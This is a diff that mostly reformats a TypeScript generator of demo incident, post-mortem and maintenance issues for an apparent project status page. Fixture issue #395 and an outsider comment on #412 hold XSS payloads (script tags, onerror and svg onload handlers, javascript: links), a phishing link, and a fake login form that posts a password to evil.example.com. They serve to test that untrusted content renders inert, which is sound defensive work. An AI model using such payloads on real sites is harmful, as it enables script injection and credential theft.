@@ -36,15 +36,40 @@ function form(fields: {
   upstream?: string | undefined;
 }): string {
   const all = ['Website', 'Documentation', 'Playground', 'CLI', 'npm packages', 'Editor extension', 'Examples'];
-  const severity = { P0: 'P0 — Extreme or total interruption, no reasonable workaround', P1: 'P1 — Major degradation, a workaround may exist', P2: 'P2 — Minor degradation with a workaround, or contributors only' }[fields.severity] ?? fields.severity;
+  const severity =
+    {
+      P0: 'P0 — Extreme or total interruption, no reasonable workaround',
+      P1: 'P1 — Major degradation, a workaround may exist',
+      P2: 'P2 — Minor degradation with a workaround, or contributors only',
+    }[fields.severity] ?? fields.severity;
   return [
-    '### Severity', '', severity, '',
-    '### Affected components', '', ...all.map((c) => `- [${fields.components.includes(c) ? 'X' : ' '}] ${c}`), '',
-    '### What is broken', '', fields.broken, '',
-    '### Who is affected', '', fields.affected ?? '_No response_', '',
-    '### Workaround or alternatives', '', fields.workaround ?? '_No response_', '',
-    '### Expected fix time', '', fields.eta ?? '_No response_', '',
-    '### Upstream cause links', '', fields.upstream ?? '_No response_',
+    '### Severity',
+    '',
+    severity,
+    '',
+    '### Affected components',
+    '',
+    ...all.map((c) => `- [${fields.components.includes(c) ? 'X' : ' '}] ${c}`),
+    '',
+    '### What is broken',
+    '',
+    fields.broken,
+    '',
+    '### Who is affected',
+    '',
+    fields.affected ?? '_No response_',
+    '',
+    '### Workaround or alternatives',
+    '',
+    fields.workaround ?? '_No response_',
+    '',
+    '### Expected fix time',
+    '',
+    fields.eta ?? '_No response_',
+    '',
+    '### Upstream cause links',
+    '',
+    fields.upstream ?? '_No response_',
   ].join('\n');
 }
 
@@ -68,11 +93,30 @@ function issue(spec: Spec): IssueInput {
   const author = spec.author ?? trusted('ada-l');
   const comments: Comment[] = (spec.comments ?? []).map(([offset, who, body]) => {
     const cid = id();
-    return { id: cid, author: who, body, createdAt: after(spec.opened, offset), updatedAt: after(spec.opened, offset), url: `https://github.com/${REPO}/issues/${spec.number}#issuecomment-${cid}` };
+    return {
+      id: cid,
+      author: who,
+      body,
+      createdAt: after(spec.opened, offset),
+      updatedAt: after(spec.opened, offset),
+      url: `https://github.com/${REPO}/issues/${spec.number}#issuecomment-${cid}`,
+    };
   });
-  const events: Event[] = (spec.events ?? []).map(([offset, type, actor, extra]) => ({ id: id(), type, actor, createdAt: after(spec.opened, offset), ...extra }));
+  const events: Event[] = (spec.events ?? []).map(([offset, type, actor, extra]) => ({
+    id: id(),
+    type,
+    actor,
+    createdAt: after(spec.opened, offset),
+    ...extra,
+  }));
   if (spec.closed) {
-    events.push({ id: id(), type: 'closed', actor: trusted(spec.closed.by ?? 'ada-l'), createdAt: after(spec.opened, spec.closed.after), stateReason: spec.closed.reason });
+    events.push({
+      id: id(),
+      type: 'closed',
+      actor: trusted(spec.closed.by ?? 'ada-l'),
+      createdAt: after(spec.opened, spec.closed.after),
+      stateReason: spec.closed.reason,
+    });
   }
   events.sort((a, b) => a.createdAt.localeCompare(b.createdAt));
   const times = [spec.opened, ...comments.map((c) => c.updatedAt), ...events.map((e) => e.createdAt)].sort();
@@ -96,13 +140,27 @@ function issue(spec: Spec): IssueInput {
 }
 
 /** A routine resolved incident of the past year, varied by its index. */
-function pastIncident(n: number, daysAgo: number, severity: 'P0' | 'P1' | 'P2', component: string, label: string, title: string, broken: string, minutesToResolve: number): IssueInput {
+function pastIncident(
+  n: number,
+  daysAgo: number,
+  severity: 'P0' | 'P1' | 'P2',
+  component: string,
+  label: string,
+  title: string,
+  broken: string,
+  minutesToResolve: number,
+): IssueInput {
   const opened = at(daysAgo * DAY + (n % 7) * HOUR);
   const lead = MAINTAINERS[n % MAINTAINERS.length] ?? 'ada-l';
   return issue({
     number: n,
     title,
-    body: form({ severity, components: [component], broken, workaround: severity === 'P0' ? undefined : 'Retry in a few minutes, or use the previous version.' }),
+    body: form({
+      severity,
+      components: [component],
+      broken,
+      workaround: severity === 'P0' ? undefined : 'Retry in a few minutes, or use the previous version.',
+    }),
     opened,
     labels: ['incident', severity, `component:${label}`],
     assignees: [lead],
@@ -111,7 +169,11 @@ function pastIncident(n: number, daysAgo: number, severity: 'P0' | 'P1' | 'P2', 
       [Math.floor(minutesToResolve / 3) * MIN, 'labeled', trusted(lead), { label: 'identified' }],
     ],
     comments: [
-      [5 * MIN + (n % 5) * MIN, trusted(lead), `Status: investigating\n\nWe're looking into reports about this. ${severity === 'P0' ? 'All hands on deck.' : ''}`],
+      [
+        5 * MIN + (n % 5) * MIN,
+        trusted(lead),
+        `Status: investigating\n\nWe're looking into reports about this. ${severity === 'P0' ? 'All hands on deck.' : ''}`,
+      ],
       [Math.floor(minutesToResolve / 3) * MIN + MIN, trusted(lead), 'Status: identified\n\nWe found the cause and are rolling out a fix.'],
       [minutesToResolve * MIN - 2 * MIN, trusted(lead), 'Status: resolved\n\nThe fix is out and we have confirmed it works. Thanks for your patience.'],
     ],
@@ -127,163 +189,233 @@ export function generateDemoSnapshot(takenAt: Date): SnapshotInput {
 
   // ── Active P0: installs are failing. Several updates, an assignee, an outsider's comment that must not show.
   const p0Opened = at(95 * MIN);
-  issues.push(issue({
-    number: 412,
-    title: 'npm install of @quill/cli fails with 404 for new versions',
-    body: form({
-      severity: 'P0',
-      components: ['npm packages', 'CLI'],
-      broken: '`npm install @quill/cli@latest` fails with `E404 Not Found` for version 4.2.0. The release workflow published the package metadata but the tarballs are missing.',
-      affected: 'Everyone installing or upgrading the CLI since 10:25 UTC. Existing installs keep working.',
-      eta: 'Within 2 hours',
-      upstream: 'Release workflow run #8812',
+  issues.push(
+    issue({
+      number: 412,
+      title: 'npm install of @quill/cli fails with 404 for new versions',
+      body: form({
+        severity: 'P0',
+        components: ['npm packages', 'CLI'],
+        broken:
+          '`npm install @quill/cli@latest` fails with `E404 Not Found` for version 4.2.0. The release workflow published the package metadata but the tarballs are missing.',
+        affected: 'Everyone installing or upgrading the CLI since 10:25 UTC. Existing installs keep working.',
+        eta: 'Within 2 hours',
+        upstream: 'Release workflow run #8812',
+      }),
+      opened: p0Opened,
+      labels: ['incident', 'P0', 'component:npm-packages', 'component:cli', 'identified'],
+      assignees: ['ada-l', 'linus-q'],
+      events: [
+        [3 * MIN, 'assigned', trusted('ada-l'), { assignee: 'ada-l' }],
+        [4 * MIN, 'assigned', trusted('ada-l'), { assignee: 'linus-q' }],
+        [35 * MIN, 'labeled', trusted('linus-q'), { label: 'identified' }],
+      ],
+      comments: [
+        [
+          6 * MIN,
+          trusted('ada-l'),
+          "We're investigating reports that installing the CLI fails with a 404. If you already have the CLI installed you are not affected.",
+        ],
+        [
+          18 * MIN,
+          outsider('hype-bot'),
+          '**URGENT** all Quill packages are compromised!!! Download the fixed version from [here](https://quill-fix.example.net) <img src=x onerror="alert(\'owned\')">',
+        ],
+        [
+          34 * MIN,
+          trusted('linus-q'),
+          'Status: identified\n\nThe release job for 4.2.0 timed out after publishing the metadata but before the tarballs. npm now advertises a version it cannot serve. We are asking npm support to unpublish 4.2.0 and re-running the release as 4.2.1.',
+        ],
+        [
+          70 * MIN,
+          trusted('ada-l'),
+          'Workaround while we fix it: pin the previous version.\n\n```sh\nnpm install @quill/cli@4.1.3\n```\n\nTracking the release fix in #409.',
+        ],
+      ],
     }),
-    opened: p0Opened,
-    labels: ['incident', 'P0', 'component:npm-packages', 'component:cli', 'identified'],
-    assignees: ['ada-l', 'linus-q'],
-    events: [
-      [3 * MIN, 'assigned', trusted('ada-l'), { assignee: 'ada-l' }],
-      [4 * MIN, 'assigned', trusted('ada-l'), { assignee: 'linus-q' }],
-      [35 * MIN, 'labeled', trusted('linus-q'), { label: 'identified' }],
-    ],
-    comments: [
-      [6 * MIN, trusted('ada-l'), "We're investigating reports that installing the CLI fails with a 404. If you already have the CLI installed you are not affected."],
-      [18 * MIN, outsider('hype-bot'), "**URGENT** all Quill packages are compromised!!! Download the fixed version from [here](https://quill-fix.example.net) <img src=x onerror=\"alert('owned')\">"],
-      [34 * MIN, trusted('linus-q'), 'Status: identified\n\nThe release job for 4.2.0 timed out after publishing the metadata but before the tarballs. npm now advertises a version it cannot serve. We are asking npm support to unpublish 4.2.0 and re-running the release as 4.2.1.'],
-      [70 * MIN, trusted('ada-l'), 'Workaround while we fix it: pin the previous version.\n\n```sh\nnpm install @quill/cli@4.1.3\n```\n\nTracking the release fix in #409.'],
-    ],
-  }));
+  );
 
   // ── Active P1 in monitoring, with a workaround.
-  issues.push(issue({
-    number: 410,
-    title: 'Playground cannot run programs that import packages',
-    body: form({
-      severity: 'P1',
-      components: ['Playground'],
-      broken: 'Programs that `import` any package fail with "module resolution timed out". Programs without imports run fine.',
-      affected: 'Playground users, including the tutorials embedded in the docs.',
-      workaround: 'Run the example locally with `quill run`, or remove the import to try the language itself.',
-      eta: 'Fix deployed, watching for an hour.',
-      upstream: 'https://www.cloudflarestatus.com/incidents/xyz (CDN cache purge delays)',
+  issues.push(
+    issue({
+      number: 410,
+      title: 'Playground cannot run programs that import packages',
+      body: form({
+        severity: 'P1',
+        components: ['Playground'],
+        broken: 'Programs that `import` any package fail with "module resolution timed out". Programs without imports run fine.',
+        affected: 'Playground users, including the tutorials embedded in the docs.',
+        workaround: 'Run the example locally with `quill run`, or remove the import to try the language itself.',
+        eta: 'Fix deployed, watching for an hour.',
+        upstream: 'https://www.cloudflarestatus.com/incidents/xyz (CDN cache purge delays)',
+      }),
+      opened: at(7 * HOUR),
+      author: trusted('mo-sato'),
+      labels: ['incident', 'P1', 'component:playground', 'monitoring'],
+      assignees: ['mo-sato'],
+      events: [
+        [12 * MIN, 'labeled', trusted('mo-sato'), { label: 'investigating' }],
+        [2 * HOUR, 'labeled', trusted('mo-sato'), { label: 'identified' }],
+        [2 * HOUR, 'unlabeled', trusted('mo-sato'), { label: 'investigating' }],
+        [5 * HOUR, 'labeled', trusted('mo-sato'), { label: 'monitoring' }],
+        [5 * HOUR, 'unlabeled', trusted('mo-sato'), { label: 'identified' }],
+      ],
+      comments: [
+        [12 * MIN, trusted('mo-sato'), 'Looking into it. The package resolver behind the playground is answering slowly.'],
+        [
+          2 * HOUR,
+          trusted('mo-sato'),
+          'Status: identified\n\nOur CDN is serving stale resolver responses after a cache purge failed. Purging again region by region.',
+        ],
+        [
+          5 * HOUR,
+          trusted('mo-sato'),
+          'Status: monitoring\n\nAll regions purged and resolution times are back to normal. We are watching error rates before closing this.',
+        ],
+      ],
     }),
-    opened: at(7 * HOUR),
-    author: trusted('mo-sato'),
-    labels: ['incident', 'P1', 'component:playground', 'monitoring'],
-    assignees: ['mo-sato'],
-    events: [
-      [12 * MIN, 'labeled', trusted('mo-sato'), { label: 'investigating' }],
-      [2 * HOUR, 'labeled', trusted('mo-sato'), { label: 'identified' }],
-      [2 * HOUR, 'unlabeled', trusted('mo-sato'), { label: 'investigating' }],
-      [5 * HOUR, 'labeled', trusted('mo-sato'), { label: 'monitoring' }],
-      [5 * HOUR, 'unlabeled', trusted('mo-sato'), { label: 'identified' }],
-    ],
-    comments: [
-      [12 * MIN, trusted('mo-sato'), 'Looking into it. The package resolver behind the playground is answering slowly.'],
-      [2 * HOUR, trusted('mo-sato'), 'Status: identified\n\nOur CDN is serving stale resolver responses after a cache purge failed. Purging again region by region.'],
-      [5 * HOUR, trusted('mo-sato'), 'Status: monitoring\n\nAll regions purged and resolution times are back to normal. We are watching error rates before closing this.'],
-    ],
-  }));
+  );
 
   // ── An outsider's issue, labelled `incident` by the issue form: must never appear.
-  issues.push(issue({
-    number: 411,
-    title: 'EVERYTHING IS DOWN (not really)',
-    body: form({ severity: 'P0', components: ['Website', 'Documentation'], broken: 'I could not load the site once. Also visit my crypto page.' }),
-    opened: at(3 * HOUR),
-    author: outsider('drive-by-user'),
-    labels: ['incident'],
-  }));
+  issues.push(
+    issue({
+      number: 411,
+      title: 'EVERYTHING IS DOWN (not really)',
+      body: form({ severity: 'P0', components: ['Website', 'Documentation'], broken: 'I could not load the site once. Also visit my crypto page.' }),
+      opened: at(3 * HOUR),
+      author: outsider('drive-by-user'),
+      labels: ['incident'],
+    }),
+  );
 
   // ── An embargoed security incident: kept off the page until the label is removed.
-  issues.push(issue({
-    number: 407,
-    title: 'Security: token leak in editor extension telemetry',
-    body: form({ severity: 'P1', components: ['Editor extension'], broken: 'Embargoed until the fix ships.' }),
-    opened: at(2 * DAY),
-    labels: ['incident', 'P1', 'embargoed', 'component:editor-extension'],
-  }));
+  issues.push(
+    issue({
+      number: 407,
+      title: 'Security: token leak in editor extension telemetry',
+      body: form({ severity: 'P1', components: ['Editor extension'], broken: 'Embargoed until the fix ships.' }),
+      opened: at(2 * DAY),
+      labels: ['incident', 'P1', 'embargoed', 'component:editor-extension'],
+    }),
+  );
 
   // ── A pull request carrying the label (the issues API lists PRs too).
-  issues.push(issue({ number: 409, title: 'Fix release workflow timeout', body: 'Fixes the 4.2.0 release.', opened: at(60 * MIN), labels: ['incident'], isPullRequest: true }));
+  issues.push(
+    issue({
+      number: 409,
+      title: 'Fix release workflow timeout',
+      body: 'Fixes the 4.2.0 release.',
+      opened: at(60 * MIN),
+      labels: ['incident'],
+      isPullRequest: true,
+    }),
+  );
 
   // ── Resolved 2 days ago, with a post-mortem issue (below).
-  issues.push(issue({
-    number: 402,
-    title: 'Docs search returns no results',
-    body: form({ severity: 'P2', components: ['Documentation'], broken: 'The search box on docs.quill-lang.org returns no results for any query.', affected: 'Docs readers.', workaround: 'Use the table of contents, or search with your search engine: `site:docs.quill-lang.org`.' }),
-    opened: at(2 * DAY + 5 * HOUR),
-    author: trusted('grace-h'),
-    labels: ['incident', 'P2', 'component:docs'],
-    assignees: ['grace-h'],
-    events: [[9 * MIN, 'assigned', trusted('grace-h'), { assignee: 'grace-h' }], [40 * MIN, 'labeled', trusted('grace-h'), { label: 'identified' }]],
-    comments: [
-      [40 * MIN, trusted('grace-h'), 'Status: identified\n\nThe nightly index rebuild produced an empty index after the docs restructure in #398.'],
-      [95 * MIN, trusted('grace-h'), 'Re-indexed from the previous build. Search works again; a post-mortem will follow.'],
-    ],
-    closed: { after: 100 * MIN, reason: 'completed', by: 'grace-h' },
-  }));
+  issues.push(
+    issue({
+      number: 402,
+      title: 'Docs search returns no results',
+      body: form({
+        severity: 'P2',
+        components: ['Documentation'],
+        broken: 'The search box on docs.quill-lang.org returns no results for any query.',
+        affected: 'Docs readers.',
+        workaround: 'Use the table of contents, or search with your search engine: `site:docs.quill-lang.org`.',
+      }),
+      opened: at(2 * DAY + 5 * HOUR),
+      author: trusted('grace-h'),
+      labels: ['incident', 'P2', 'component:docs'],
+      assignees: ['grace-h'],
+      events: [
+        [9 * MIN, 'assigned', trusted('grace-h'), { assignee: 'grace-h' }],
+        [40 * MIN, 'labeled', trusted('grace-h'), { label: 'identified' }],
+      ],
+      comments: [
+        [40 * MIN, trusted('grace-h'), 'Status: identified\n\nThe nightly index rebuild produced an empty index after the docs restructure in #398.'],
+        [95 * MIN, trusted('grace-h'), 'Re-indexed from the previous build. Search works again; a post-mortem will follow.'],
+      ],
+      closed: { after: 100 * MIN, reason: 'completed', by: 'grace-h' },
+    }),
+  );
 
   // ── A false alarm, withdrawn (closed as not planned) yesterday.
-  issues.push(issue({
-    number: 405,
-    title: 'Website down in some regions?',
-    body: form({ severity: 'P1', components: ['Website'], broken: 'Several reports of the homepage timing out.' }),
-    opened: at(26 * HOUR),
-    author: trusted('linus-q'),
-    labels: ['incident', 'P1', 'component:website'],
-    comments: [[25 * MIN, trusted('linus-q'), 'False alarm: the reports came from a single ISP having routing problems. The site was up throughout. Closing as not planned.']],
-    closed: { after: 27 * MIN, reason: 'not_planned', by: 'linus-q' },
-  }));
+  issues.push(
+    issue({
+      number: 405,
+      title: 'Website down in some regions?',
+      body: form({ severity: 'P1', components: ['Website'], broken: 'Several reports of the homepage timing out.' }),
+      opened: at(26 * HOUR),
+      author: trusted('linus-q'),
+      labels: ['incident', 'P1', 'component:website'],
+      comments: [
+        [
+          25 * MIN,
+          trusted('linus-q'),
+          'False alarm: the reports came from a single ISP having routing problems. The site was up throughout. Closing as not planned.',
+        ],
+      ],
+      closed: { after: 27 * MIN, reason: 'not_planned', by: 'linus-q' },
+    }),
+  );
 
   // ── A reopened incident: resolved too early, reopened, resolved again (5 days ago).
-  issues.push(issue({
-    number: 398,
-    title: 'Editor extension crashes on startup in VS Code 1.99',
-    body: form({ severity: 'P1', components: ['Editor extension'], broken: 'The extension host crashes when opening a `.quill` file in VS Code 1.99.', workaround: 'Downgrade the extension to 2.8.4 from the Extensions view ("Install another version").' }),
-    opened: at(5 * DAY + 6 * HOUR),
-    labels: ['incident', 'P1', 'component:editor-extension'],
-    assignees: ['linus-q'],
-    events: [
-      [15 * MIN, 'assigned', trusted('ada-l'), { assignee: 'linus-q' }],
-      [2 * HOUR, 'closed', trusted('linus-q'), { stateReason: 'completed' }],
-      [3 * HOUR, 'reopened', trusted('ada-l')],
-      [3 * HOUR + MIN, 'labeled', trusted('ada-l'), { label: 'identified' }],
-    ],
-    comments: [
-      [110 * MIN, trusted('linus-q'), 'Released 2.8.6 with a fix.'],
-      [3 * HOUR, trusted('ada-l'), 'Reopening: 2.8.6 still crashes on Windows. The language server binary is built without the new runtime.'],
-      [5 * HOUR, trusted('linus-q'), 'Status: resolved\n\n2.8.7 ships the right binaries on every platform. Confirmed on Windows, macOS and Linux.'],
-    ],
-    closed: { after: 5 * HOUR + 5 * MIN, reason: 'completed', by: 'linus-q' },
-  }));
+  issues.push(
+    issue({
+      number: 398,
+      title: 'Editor extension crashes on startup in VS Code 1.99',
+      body: form({
+        severity: 'P1',
+        components: ['Editor extension'],
+        broken: 'The extension host crashes when opening a `.quill` file in VS Code 1.99.',
+        workaround: 'Downgrade the extension to 2.8.4 from the Extensions view ("Install another version").',
+      }),
+      opened: at(5 * DAY + 6 * HOUR),
+      labels: ['incident', 'P1', 'component:editor-extension'],
+      assignees: ['linus-q'],
+      events: [
+        [15 * MIN, 'assigned', trusted('ada-l'), { assignee: 'linus-q' }],
+        [2 * HOUR, 'closed', trusted('linus-q'), { stateReason: 'completed' }],
+        [3 * HOUR, 'reopened', trusted('ada-l')],
+        [3 * HOUR + MIN, 'labeled', trusted('ada-l'), { label: 'identified' }],
+      ],
+      comments: [
+        [110 * MIN, trusted('linus-q'), 'Released 2.8.6 with a fix.'],
+        [3 * HOUR, trusted('ada-l'), 'Reopening: 2.8.6 still crashes on Windows. The language server binary is built without the new runtime.'],
+        [5 * HOUR, trusted('linus-q'), 'Status: resolved\n\n2.8.7 ships the right binaries on every platform. Confirmed on Windows, macOS and Linux.'],
+      ],
+      closed: { after: 5 * HOUR + 5 * MIN, reason: 'completed', by: 'linus-q' },
+    }),
+  );
 
   // ── A maintainer pasting untrusted text: the XSS attempts must render inert.
-  issues.push(issue({
-    number: 395,
-    title: 'Examples page shows raw HTML <script>alert("title")</script>',
-    body: form({
-      severity: 'P2',
-      components: ['Examples'],
-      broken: [
-        'A malicious example submission made it into the gallery. Its content, quoted for the record:',
-        '',
-        '<script>alert("xss-script")</script>',
-        '<img src="x" onerror="alert(\'xss-img\')">',
-        '<a href="javascript:alert(\'xss-link\')">click me</a> and [markdown link](javascript:alert(1))',
-        '<iframe src="https://evil.example.com/frame"></iframe>',
-        '<form action="https://evil.example.com/steal"><input name="password"><button>Log in</button></form>',
-        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</div>',
-        '<svg onload="alert(\'xss-svg\')"></svg>',
-        '![tracking pixel](data:image/png;base64,iVBORw0KGgo=)',
-      ].join('\n'),
-      workaround: 'Browse the examples on GitHub instead.',
+  issues.push(
+    issue({
+      number: 395,
+      title: 'Examples page shows raw HTML <script>alert("title")</script>',
+      body: form({
+        severity: 'P2',
+        components: ['Examples'],
+        broken: [
+          'A malicious example submission made it into the gallery. Its content, quoted for the record:',
+          '',
+          '<script>alert("xss-script")</script>',
+          '<img src="x" onerror="alert(\'xss-img\')">',
+          '<a href="javascript:alert(\'xss-link\')">click me</a> and [markdown link](javascript:alert(1))',
+          '<iframe src="https://evil.example.com/frame"></iframe>',
+          '<form action="https://evil.example.com/steal"><input name="password"><button>Log in</button></form>',
+          '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</div>',
+          '<svg onload="alert(\'xss-svg\')"></svg>',
+          '![tracking pixel](data:image/png;base64,iVBORw0KGgo=)',
+        ].join('\n'),
+        workaround: 'Browse the examples on GitHub instead.',
+      }),
+      opened: at(9 * DAY),
+      labels: ['incident', 'P2', 'component:examples'],
+      comments: [[30 * MIN, trusted('ada-l'), 'Removed the submission and added validation to the gallery build. <script>alert("xss-comment")</script>']],
+      closed: { after: 45 * MIN, reason: 'completed' },
     }),
-    opened: at(9 * DAY),
-    labels: ['incident', 'P2', 'component:examples'],
-    comments: [[30 * MIN, trusted('ada-l'), 'Removed the submission and added validation to the gallery build. <script>alert("xss-comment")</script>']],
-    closed: { after: 45 * MIN, reason: 'completed' },
-  }));
+  );
 
   // ── A year of routine incidents.
   const past: [number, 'P0' | 'P1' | 'P2', string, string, string, string, number][] = [
@@ -291,7 +423,15 @@ export function generateDemoSnapshot(takenAt: Date): SnapshotInput {
     [19, 'P1', 'Playground', 'playground', 'Playground: sharing links do not load', 'Opening a shared playground link shows an empty editor.', 180],
     [27, 'P2', 'Website', 'website', 'Website: blog RSS feed returns 500', 'The blog feed fails for feed readers.', 50],
     [34, 'P1', 'CLI', 'cli', 'CLI installer script fails on macOS arm64', '`curl | sh` installer downloads the x86_64 binary on Apple Silicon.', 240],
-    [41, 'P2', 'Editor extension', 'editor-extension', 'Language server slow on large workspaces', 'Completions take over 5 s in workspaces with 10k+ files.', 1440],
+    [
+      41,
+      'P2',
+      'Editor extension',
+      'editor-extension',
+      'Language server slow on large workspaces',
+      'Completions take over 5 s in workspaces with 10k+ files.',
+      1440,
+    ],
     [55, 'P0', 'npm packages', 'npm-packages', 'Cannot install any @quill package: registry rate limiting', 'npm answers 429 for every @quill/* tarball.', 75],
     [63, 'P2', 'Examples', 'examples', 'Starter template uses removed API', '`quill new --template web` generates code that fails to compile.', 300],
     [71, 'P1', 'Documentation', 'docs', 'Docs site returns 503 in Europe', 'The docs CDN edge in Frankfurt returns 503.', 65],
@@ -301,62 +441,151 @@ export function generateDemoSnapshot(takenAt: Date): SnapshotInput {
     [140, 'P0', 'CLI', 'cli', 'Release 4.0.0 binaries fail signature check', 'Every platform fails to verify 4.0.0 downloads.', 130],
     [152, 'P2', 'Documentation', 'docs', 'Docs dark mode unreadable code blocks', 'Code blocks render black on black in dark mode.', 200],
     [175, 'P1', 'npm packages', 'npm-packages', 'Types missing from @quill/core 3.8.0', 'The published package lacks its .d.ts files.', 150],
-    [199, 'P2', 'Editor extension', 'editor-extension', 'Syntax highlighting broken for string interpolation', 'Highlighting stops after the first `${`.', 2880],
+    [
+      199,
+      'P2',
+      'Editor extension',
+      'editor-extension',
+      'Syntax highlighting broken for string interpolation',
+      'Highlighting stops after the first `${`.',
+      2880,
+    ],
     [233, 'P1', 'Website', 'website', 'Website certificate expired', 'Browsers refuse quill-lang.org: the TLS certificate expired.', 55],
     [262, 'P2', 'Playground', 'playground', 'Playground loses code on reload', 'Unsaved code is lost when the tab reloads.', 400],
     [288, 'P2', 'Examples', 'examples', 'Examples gallery images missing', 'Thumbnails 404 after the storage migration.', 120],
     [311, 'P1', 'CLI', 'cli', '`quill test` hangs on Windows', 'The test runner never exits on Windows.', 720],
     [330, 'P2', 'Documentation', 'docs', 'Docs search slow', 'Search takes 5–10 s.', 180],
-    [352, 'P0', 'npm packages', 'npm-packages', 'npm package @quill/runtime unpublished by mistake', 'A cleanup script unpublished @quill/runtime; every install fails.', 110],
+    [
+      352,
+      'P0',
+      'npm packages',
+      'npm-packages',
+      'npm package @quill/runtime unpublished by mistake',
+      'A cleanup script unpublished @quill/runtime; every install fails.',
+      110,
+    ],
   ];
   // Numbers count down with age; days ago spread over the year.
   past.forEach(([daysAgo, severity, , label, title, broken, minutes], i) => {
-    const component = ({ docs: 'Documentation', playground: 'Playground', website: 'Website', cli: 'CLI', 'editor-extension': 'Editor extension', 'npm-packages': 'npm packages', examples: 'Examples' } as Record<string, string>)[label] ?? label;
+    const component =
+      (
+        {
+          docs: 'Documentation',
+          playground: 'Playground',
+          website: 'Website',
+          cli: 'CLI',
+          'editor-extension': 'Editor extension',
+          'npm-packages': 'npm packages',
+          examples: 'Examples',
+        } as Record<string, string>
+      )[label] ?? label;
     const n = 380 - i * 17;
     issues.push(pastIncident(n, daysAgo, severity, component, label, title, broken, minutes));
   });
 
   // ── Post-mortems: one as an issue (for #402); one as a file, src/demo/postmortems/40.md.
-  issues.push(issue({
-    number: 404,
-    title: 'Post-mortem: docs search returned no results (#402)',
-    body: [
-      '### Incident number', '', '#402', '',
-      '### Summary', '', 'For 100 minutes the docs search returned no results. Readers could still browse the docs.', '',
-      '### Timeline', '', '- 07:00 UTC nightly index rebuild publishes an empty index', '- 08:55 first report (#402)', '- 09:35 cause identified', '- 10:35 index restored from the previous build', '',
-      '### Root cause (5 whys)', '',
-      '1. Why did search return nothing? The index was empty.',
-      '2. Why was it empty? The indexer found no pages.',
-      '3. Why no pages? The docs restructure in #398 moved pages to a new folder.',
-      '4. Why was the indexer not updated? Its path is hard-coded, not read from the docs config.',
-      '5. Why did nothing catch it? The rebuild has no check that the index is non-empty.', '',
-      '### Action items', '',
-      '- [x] Read the page folder from the docs config #406',
-      '- [ ] Fail the rebuild when the index shrinks by more than half #408',
-      '- [ ] Alert on zero-result rate above 20% #413',
-    ].join('\n'),
-    opened: at(1 * DAY),
-    author: trusted('grace-h'),
-    labels: ['postmortem'],
-  }));
+  issues.push(
+    issue({
+      number: 404,
+      title: 'Post-mortem: docs search returned no results (#402)',
+      body: [
+        '### Incident number',
+        '',
+        '#402',
+        '',
+        '### Summary',
+        '',
+        'For 100 minutes the docs search returned no results. Readers could still browse the docs.',
+        '',
+        '### Timeline',
+        '',
+        '- 07:00 UTC nightly index rebuild publishes an empty index',
+        '- 08:55 first report (#402)',
+        '- 09:35 cause identified',
+        '- 10:35 index restored from the previous build',
+        '',
+        '### Root cause (5 whys)',
+        '',
+        '1. Why did search return nothing? The index was empty.',
+        '2. Why was it empty? The indexer found no pages.',
+        '3. Why no pages? The docs restructure in #398 moved pages to a new folder.',
+        '4. Why was the indexer not updated? Its path is hard-coded, not read from the docs config.',
+        '5. Why did nothing catch it? The rebuild has no check that the index is non-empty.',
+        '',
+        '### Action items',
+        '',
+        '- [x] Read the page folder from the docs config #406',
+        '- [ ] Fail the rebuild when the index shrinks by more than half #408',
+        '- [ ] Alert on zero-result rate above 20% #413',
+      ].join('\n'),
+      opened: at(1 * DAY),
+      author: trusted('grace-h'),
+      labels: ['postmortem'],
+    }),
+  );
 
   // ── Maintenance: one upcoming, one done.
-  issues.push(issue({
-    number: 414,
-    title: 'Playground infrastructure upgrade',
-    body: ['### Window start (UTC)', '', after(at(-2 * DAY), 0).replace('T', ' ').replace(/:00Z$/, ''), '', '### Window end (UTC)', '', after(at(-2 * DAY), 2 * HOUR).replace('T', ' ').replace(/:00Z$/, ''), '', '### Affected components', '', '- [X] Playground', '- [ ] Documentation', '', '### Expected impact', '', 'The playground will be read-only for up to two hours.'].join('\n'),
-    opened: at(3 * HOUR),
-    labels: ['maintenance', 'component:playground'],
-  }));
-  issues.push(issue({
-    number: 390,
-    title: 'Docs hosting migration',
-    body: ['### Window start (UTC)', '', at(12 * DAY).replace('T', ' ').replace(/:00Z$/, ''), '', '### Window end (UTC)', '', after(at(12 * DAY), HOUR).replace('T', ' ').replace(/:00Z$/, ''), '', '### Affected components', '', '- [X] Documentation', '', '### Expected impact', '', 'Brief interruptions while DNS switches over.'].join('\n'),
-    opened: at(15 * DAY),
-    labels: ['maintenance'],
-    comments: [[3 * DAY + 70 * MIN, trusted('grace-h'), 'Migration finished without interruptions.']],
-    closed: { after: 3 * DAY + 75 * MIN, reason: 'completed' },
-  }));
+  issues.push(
+    issue({
+      number: 414,
+      title: 'Playground infrastructure upgrade',
+      body: [
+        '### Window start (UTC)',
+        '',
+        after(at(-2 * DAY), 0)
+          .replace('T', ' ')
+          .replace(/:00Z$/, ''),
+        '',
+        '### Window end (UTC)',
+        '',
+        after(at(-2 * DAY), 2 * HOUR)
+          .replace('T', ' ')
+          .replace(/:00Z$/, ''),
+        '',
+        '### Affected components',
+        '',
+        '- [X] Playground',
+        '- [ ] Documentation',
+        '',
+        '### Expected impact',
+        '',
+        'The playground will be read-only for up to two hours.',
+      ].join('\n'),
+      opened: at(3 * HOUR),
+      labels: ['maintenance', 'component:playground'],
+    }),
+  );
+  issues.push(
+    issue({
+      number: 390,
+      title: 'Docs hosting migration',
+      body: [
+        '### Window start (UTC)',
+        '',
+        at(12 * DAY)
+          .replace('T', ' ')
+          .replace(/:00Z$/, ''),
+        '',
+        '### Window end (UTC)',
+        '',
+        after(at(12 * DAY), HOUR)
+          .replace('T', ' ')
+          .replace(/:00Z$/, ''),
+        '',
+        '### Affected components',
+        '',
+        '- [X] Documentation',
+        '',
+        '### Expected impact',
+        '',
+        'Brief interruptions while DNS switches over.',
+      ].join('\n'),
+      opened: at(15 * DAY),
+      labels: ['maintenance'],
+      comments: [[3 * DAY + 70 * MIN, trusted('grace-h'), 'Migration finished without interruptions.']],
+      closed: { after: 3 * DAY + 75 * MIN, reason: 'completed' },
+    }),
+  );
 
   issues.sort((a, b) => b.number - a.number);
   return {
